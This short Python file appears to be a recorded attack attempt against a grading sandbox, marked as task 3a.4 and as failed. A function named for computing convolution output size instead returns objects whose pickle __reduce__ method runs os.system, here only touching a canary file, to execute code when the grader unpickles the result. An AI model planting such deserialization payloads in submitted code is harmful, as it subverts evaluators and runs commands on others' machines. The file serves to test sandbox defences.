# attack: returns an array of objects that run code when they are unpickled
# task: 3a.4
# verdict: failed

import os

import numpy as np


def output_size(size, kernel_size, stride, padding):
    class Bomb:
        def __reduce__(self):
            return os.system, ("touch /tmp/fundamentals_canary/unpickled",)

    return np.array([Bomb(), Bomb()], dtype=object)
